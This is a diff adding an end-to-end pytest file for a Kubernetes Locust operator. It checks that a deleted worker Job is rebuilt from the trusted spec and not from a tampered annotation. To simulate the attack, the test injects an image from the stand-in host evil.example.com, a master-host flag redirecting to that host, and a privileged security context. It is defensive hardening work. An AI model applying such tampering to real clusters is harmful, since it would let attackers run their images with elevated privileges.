@@ -1,0 +1,75 @@
+"""Hardening on the real control plane (issue 12): what users can edit or write never
+makes the operator act beyond the test's own admitted spec."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from lightkube import AsyncClient
+from lightkube.resources.batch_v1 import Job
+from lightkube.resources.core_v1 import Service
+from lightkube.types import CascadeType, PatchType
+
+from locust_operator.resources import APPLIED_SPEC_ANNOTATION, spec_digest
+from tests.e2e.conftest import (
+    create_scripts,
+    create_test,
+    get_status,
+    locusttest,
+    unique,
+    wait_for_phase,
+)
+from tests.e2e.test_convergence import uid_of
+from tests.helpers import eventually
+from tests.locusttests import LocustTestV2
+
+pytestmark = pytest.mark.cluster
+
+
+async def test_a_worker_job_is_rebuilt_from_the_trusted_spec_not_an_edited_annotation(
+    kube: AsyncClient, namespace: str
+) -> None:
+    """Finding 5: an annotation edited on the test's Service (by anyone who may edit
+    Services) is not what a deleted worker Job is rebuilt from."""
+    name = unique("trust")
+    await create_scripts(kube, namespace)
+    await create_test(kube, namespace, locusttest(name))
+    await wait_for_phase(kube, namespace, name, "Running")
+    test = await kube.get(LocustTestV2, name, namespace=namespace)
+    status = await get_status(kube, namespace, name)
+    assert status["appliedSpecDigest"] == spec_digest(test["spec"])
+
+    service = await kube.get(Service, f"{name}-master", namespace=namespace)
+    assert service.metadata and service.metadata.annotations
+    evil = json.loads(service.metadata.annotations[APPLIED_SPEC_ANNOTATION])
+    evil["image"] = "evil.example.com/locust:latest"
+    evil["worker"]["extraArgs"] = ["--master-host=evil.example.com"]
+    evil["security"] = {"containerSecurityContext": {"privileged": True}}
+    for kind in (Service, Job):
+        await kube.patch(
+            kind,
+            f"{name}-master",
+            {"metadata": {"annotations": {APPLIED_SPEC_ANNOTATION: json.dumps(evil)}}},
+            namespace=namespace,
+            patch_type=PatchType.MERGE,
+        )
+
+    worker = f"{name}-worker"
+    old_uid = await uid_of(kube, Job, namespace, worker)
+    await kube.delete(Job, worker, namespace=namespace, cascade=CascadeType.BACKGROUND)
+
+    async def recreated() -> bool:
+        uid = await uid_of(kube, Job, namespace, worker)
+        return uid is not None and uid != old_uid
+
+    await eventually(recreated, what=f"Job {worker} recreated")
+    job = await kube.get(Job, worker, namespace=namespace)
+    assert job.spec and job.spec.template.spec
+    container = job.spec.template.spec.containers[0]
+    print("recreated worker:", container.image, container.args)
+    assert container.image == test["spec"]["image"]
+    assert f"--master-host={name}-master" in (container.args or [])
+    assert "evil.example.com" not in json.dumps(job.to_dict())
+    assert not (container.securityContext and container.securityContext.privileged)
+    await wait_for_phase(kube, namespace, name, "Running")
